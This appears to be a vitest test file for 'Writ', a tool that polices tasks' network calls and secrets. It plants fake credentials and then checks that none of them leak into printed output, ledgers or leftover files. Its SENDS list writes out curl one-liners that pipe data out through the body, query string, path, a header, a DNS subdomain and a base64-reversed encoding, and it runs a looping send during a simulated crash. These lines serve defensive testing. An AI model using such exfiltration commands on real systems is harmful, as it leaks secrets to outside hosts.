// A heavy run with planted values in every place that Writ takes words from, of every outcome, with crashes; then everything that
// it printed, recorded, kept and left behind is searched for each of them, in the usual spellings.
import { randomBytes } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, expect, it } from "vitest";
import { governorPids } from "../../src/governor/fixtures/made-home.ts";
import { specText } from "../../src/governor/fixtures/spec-text.ts";
import { isDeep } from "../depth.ts";
import { openUpstream, type Upstream } from "../enforce/upstream.ts";
import { begin, endPlace, makePlace, type Place, signalTo, until, writ } from "./cli-process.ts";

const letters = (length: number): string =>
  randomBytes(2 * length)
    .toString("base64")
    .replaceAll(/[^A-Za-z0-9]/g, "q")
    .slice(0, length);

/** By how Writ knows each: a protected file, an enrolment, a secret of the spec, a detector. */
const VALUES = {
  named: letters(32),
  enrolled: letters(36),
  secret: letters(40),
  token: `sk-proj-${letters(48)}`,
} as const;
/** A document's passage that is in no other text. */
const PASSAGE = Array.from({ length: 60 }, () => letters(7).toLowerCase()).join(" ");

let place: Place;
let upstream: Upstream;
/** Everything that a command of ours said. */
const said: string[] = [];

beforeAll(async () => {
  upstream = await openUpstream();
  place = makePlace();
  mkdirSync(`${place.root}/tmp`, { mode: 0o1777 });
  const keys = `${place.root}/keys`;
  mkdirSync(keys, { mode: 0o700 });
  writeFileSync(`${keys}/named.env`, `NAMED=${VALUES.named}\n`, { mode: 0o600 });
  writeFileSync(`${keys}/secret`, VALUES.secret, { mode: 0o600 });
  writeFileSync(`${keys}/enrolled.env`, `ENROLLED=${VALUES.enrolled}\n`);
  writeFileSync(`${keys}/report.txt`, PASSAGE);
  const endpoint = {
    host: upstream.host,
    port: upstream.port,
    control: "contracted",
    clearance: "internal",
    paths: ["/v1/"],
    address: "127.0.0.1",
    ca: upstream.call().ca,
    requests_per_task_max: 100,
    bytes_out_per_task_max: "1 MiB",
  };
  const bound = { host: upstream.host, port: upstream.port, paths: ["/v1/"], place: "bearer" };
  const spec = specText(place.work, {
    endpoints: JSON.stringify([endpoint]),
    privacy: `  protected: [ { file: ${keys}/named.env } ]\n  detectors: { credentials: refuse, opaque: refuse, novel_max: 1 MiB }`,
  })
    .replace("may_need: [chat]", "may_need: [chat], secrets: [API_KEY]")
    .replace("external_calls_max: 3", "external_calls_max: 100")
    .replaceAll(/external_calls: \d+/g, "external_calls: 10000")
    .replace(
      "privacy:\n",
      `  secrets: [ { name: API_KEY, file: ${keys}/secret, for: ${JSON.stringify(bound)} } ]\nprivacy:\n`,
    );
  writeFileSync(`${place.root}/spec.yaml`, spec);
  const init = await ask(["init", "--spec", `${place.root}/spec.yaml`]);
  if (init.code !== 0) throw new Error(init.stderr);
  await ask(["protect", "add", `${keys}/enrolled.env`]);
  await ask(["protect", "add", `${keys}/report.txt`, "--as", "document"]);
}, 300_000);

afterAll(async () => {
  upstream.close();
  await endPlace(place);
});

interface Said {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function ask(args: readonly string[], input?: string): Promise<Said> {
  const env = { TMPDIR: `${place.root}/tmp` };
  const ran = await writ(place, args, input === undefined ? { env } : { env, input });
  said.push(ran.stdout, ran.stderr);
  return ran;
}

/** A detector knows no token backwards; what is enrolled is known so too. */
const spellings = (value: string): readonly string[] => [
  value,
  Buffer.from(value).toString("base64"),
  Buffer.from(value).toString("hex"),
  ...(value === VALUES.token ? [] : [Array.from(value).toReversed().join("")]),
];

/** Ways a task sends standard input on; each is refused for what it holds. */
const SENDS = [
  "curl -sS -H 'content-type: text/plain' --data-binary @- $U",
  'curl -sS -o /dev/null -X POST "$U?q=$(head -c 200)"',
  'curl -sS -o /dev/null -X POST "$U/$(head -c 200)"',
  'curl -sS -o /dev/null -X POST -H "X-Note: $(head -c 200)" $U',
  'curl -sS -o /dev/null "https://$(head -c 60).example.net/"',
  "base64 -w0 | rev | curl -sS -H 'content-type: text/plain' --data-binary @- $U",
];

async function sends(value: string): Promise<void> {
  const url = `https://${upstream.host}:${upstream.port}/v1`;
  writeFileSync(`${place.work}/input.txt`, value);
  // What the task itself would say is the task's: here it says nothing.
  const script = `U=${url}/x; ${SENDS.map((line) => `cat input.txt | ${line} >/dev/null 2>&1`).join("; ")}; true`;
  writeTask(script);
  const ran = await ask(["run", "send.json"]);
  expect([ran.code, ran.stderr]).toEqual([0, ""]);
  writeFileSync(`${place.work}/input.txt`, "");
}

/** A task that may send, as `send.json`. */
function writeTask(script: string): void {
  const to = `https://${upstream.host}:${upstream.port}/v1/x`;
  const call = { to, method: "POST", calls_max: 20, bytes_out_max: "128 KiB" };
  const needs = { reads_directory: true, calls: [call], secrets: ["API_KEY"] };
  const task = { task: "send", run: { command: ["sh", "-c", script] }, needs };
  writeFileSync(`${place.work}/send.json`, JSON.stringify(task));
}

async function words(value: string): Promise<void> {
  const task = `task: "${value}"\nintent: "send ${value}"\nrun: { command: [echo, "${value}"] }\n`;
  writeFileSync(`${place.work}/task.yaml`, task);
  await ask(["check", "task.yaml"]);
  await ask(["run", "task.yaml"]);
  await ask(["run", "--intent", value, "--name", value, "--", "true", `--key=${value}`]);
  await ask(["check", "--read", `/srv/${value}`, "--", "true"]);
  await ask(["check", "--call", `POST https://${value.slice(0, 50)}.example.net/`, "--", "true"]);
  await ask([
    "check",
    "--format",
    "json",
    "--",
    "curl",
    `https://a.example/?key=${encodeURIComponent(value)}`,
  ]);
  writeFileSync(`${place.work}/bad.yaml`, `${task}needs: { secret_of_mine: "${value}" }\n`);
  await ask(["check", "bad.yaml"]);
}

it("nothing that was planted is printed, recorded, kept or left behind after a heavy run", {
  timeout: 900_000,
}, async () => {
  for (const [at, value] of Object.values(VALUES).entries()) {
    await sends(value);
    const some = spellings(value);
    for (const spelling of isDeep ? some : some.slice(at, at + 1)) await words(spelling);
  }
  await sends(PASSAGE);
  await sends(gzipSync(VALUES.enrolled).toString("base64"));
  const token = `https://${upstream.host}:${upstream.port}/v1/auth`;
  await ask([
    "run",
    "--secret",
    "API_KEY",
    "--call",
    `POST ${token}`,
    "--",
    "sh",
    "-c",
    `curl -sS -X POST -H "authorization: Bearer $API_KEY" ${token}`,
  ]);
  expect(upstream.seen().map(({ authorization }) => authorization)).toContain(`Bearer ${VALUES.secret}`);
  await crash();
  await ask(["protect", "remove", "enrolled.env"]);
  await ask([
    "scan",
    "--home",
    place.home,
    "--class",
    "credential",
    "--class",
    "protected",
    "--class",
    "opaque",
    `${place.root}/keys`,
  ]);
  await ask(["scan", "--home", place.home, "--format", "json", `${place.root}/keys`]);
  const line = JSON.stringify({ id: 1, text: Object.values(VALUES).join(" ") });
  await ask(["scan", "--home", place.home, "--jsonl"], `${line}\nnot json ${VALUES.named}\n`);
  await tellAll();
  expect(found()).toEqual([]);
});

/** A governor that is killed while a task sends, and a task that is killed. */
async function crash(): Promise<void> {
  writeFileSync(`${place.work}/input.txt`, VALUES.enrolled);
  const url = `https://${upstream.host}:${upstream.port}/v1/x`;
  const send = `curl -sS -o /dev/null --data-binary @input.txt ${url} 2>/dev/null`;
  const loop = `${send}; echo started; while :; do ${send}; done`;
  writeTask(loop);
  for (const killed of ["governor", "client"] as const) {
    const running = begin(place, ["run", "send.json"]);
    await until("the task to start", () => running.said().includes("started"));
    const pids = killed === "governor" ? governorPids(place.home) : [running.child.pid ?? 0];
    for (const pid of pids) signalTo(pid, "SIGKILL");
    const ended = await running.ended;
    said.push(ended.stdout, ended.stderr);
  }
  writeFileSync(`${place.work}/input.txt`, "");
}

/** Everything that can be asked about what happened. */
async function tellAll(): Promise<void> {
  const tail = await ask(["ledger", "tail", "--count", "10000", "--format", "json"]);
  const { records } = JSON.parse(tail.stdout) as {
    readonly records: readonly {
      readonly sequence: number;
      readonly kind: string;
      readonly core: { readonly outcome?: string };
    }[];
  };
  const outcomes = new Set(records.map(({ core }) => core.outcome).filter((one) => one !== undefined));
  expect([...outcomes].toSorted()).toEqual(["admit", "refuse"]);
  expect(records.filter(({ kind }) => kind === "egress").length).toBeGreaterThan(20);
  expect(records.filter(({ kind }) => kind === "recovery")).toHaveLength(1);
  const runs = records.filter(({ kind }) => kind === "decision" || kind === "check");
  for (const [at, { sequence }] of runs.entries()) {
    if (at % (isDeep ? 2 : 6) !== 1) continue;
    await ask(["explain", String(sequence), "--format", at % 4 === 1 ? "human" : "json"]);
    if (at % 3 === 1) await ask(["task", "draft", String(sequence)]);
  }
  for (const args of [["ledger", "tail"], ["ledger", "verify"], ["status"], ["protect", "list"], ["doctor"]])
    await ask(args);
}

/** Where something that was planted is. */
function found(): readonly string[] {
  const forms = [...Object.values(VALUES), PASSAGE.slice(0, 60)].flatMap((value) => [
    ...spellings(value),
    value.toLowerCase(),
    // A cut in either half still holds one of these.
    value.slice(4, 22),
    value.slice(-22, -4),
    encodeURIComponent(value),
  ]);
  const places = new Map(said.map((text, at) => [`answer ${at}`, text]));
  for (const folder of [place.home, `${place.root}/tmp`, `${place.root}/.cache`, `${place.root}/.local`])
    for (const file of filesBelow(folder)) places.set(file, readFileSync(file, "latin1"));
  expect(places.size).toBeGreaterThan(isDeep ? 200 : 50);
  return [...places].flatMap(([name, text]) =>
    forms.flatMap((form) =>
      text.includes(form)
        ? [`${name}: ${text.slice(Math.max(0, text.indexOf(form) - 80), text.indexOf(form) + 20)}`]
        : [],
    ),
  );
}

function filesBelow(folder: string): readonly string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path, { throwIfNoEntry: false })?.isFile() === true);
}
